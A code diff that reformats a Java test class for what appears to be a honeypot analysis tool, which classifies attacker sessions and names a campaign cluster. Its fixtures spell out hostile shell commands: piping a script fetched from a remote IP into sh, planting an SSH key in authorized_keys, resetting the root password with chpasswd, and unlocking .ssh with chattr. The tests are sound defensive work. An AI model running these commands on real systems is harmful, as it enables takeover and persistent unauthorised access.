@@ -57,17 +57,18 @@ class CrowdTest {
         link(from("203.0.113.1", "echo ssh-rsa " + "B".repeat(44) + " >> .ssh/authorized_keys"));
         link(dropped("11".repeat(32), "cat > a"));
 
-        assertThat(link(from("203.0.113.2", "id", "echo \"root:aeUVqyLmI0Sy\"|chpasswd|bash")).reason())
+        assertThat(link(from("203.0.113.2", "id", "echo \"root:aeUVqyLmI0Sy\"|chpasswd|bash"))
+                        .reason())
                 .isEqualTo(Reason.WRITTEN_CREDENTIAL);
-        assertThat(link(from("203.0.113.2", "curl http://192.0.2.7/a/x.sh|sh")))
-                .satisfies(link -> {
-                    assertThat(link.reason()).isEqualTo(Reason.URL);
-                    assertThat(link.observed()).isEqualTo("192.0.2.7/a/x.sh");
-                });
+        assertThat(link(from("203.0.113.2", "curl http://192.0.2.7/a/x.sh|sh"))).satisfies(link -> {
+            assertThat(link.reason()).isEqualTo(Reason.URL);
+            assertThat(link.observed()).isEqualTo("192.0.2.7/a/x.sh");
+        });
         assertThat(link(from("203.0.113.2", "mkdir .ssh; echo ssh-rsa " + "B".repeat(44) + " > .ssh/authorized_keys"))
                         .reason())
                 .isEqualTo(Reason.SSH_KEY);
-        assertThat(link(dropped("11".repeat(32), "cat > b; chmod +x b")).reason()).isEqualTo(Reason.FILE);
+        assertThat(link(dropped("11".repeat(32), "cat > b; chmod +x b")).reason())
+                .isEqualTo(Reason.FILE);
     }
 
     @Test
@@ -113,14 +114,16 @@ class CrowdTest {
     void namesAClusterByItsCampaign() {
         link(from("203.0.113.1", "cd ~; chattr -ia .ssh; lockr -ia .ssh"));
 
-        assertThat(link(from("203.0.113.1", "cd ~; chattr -ia .ssh; lockr -ia .ssh")).name())
+        assertThat(link(from("203.0.113.1", "cd ~; chattr -ia .ssh; lockr -ia .ssh"))
+                        .name())
                 .isEqualTo("outlaw-mdrfckr");
     }
 
     @Test
     void hasNothingToCompareWithoutCommandsAndFiles() {
         assertThat(analysis.assess(Sessions.ran().build()).cluster()).isNull();
-        assertThat(Analysis.standard().assess(Sessions.ran("id").build()).cluster()).isNull();
+        assertThat(Analysis.standard().assess(Sessions.ran("id").build()).cluster())
+                .isNull();
     }
 
     @Test
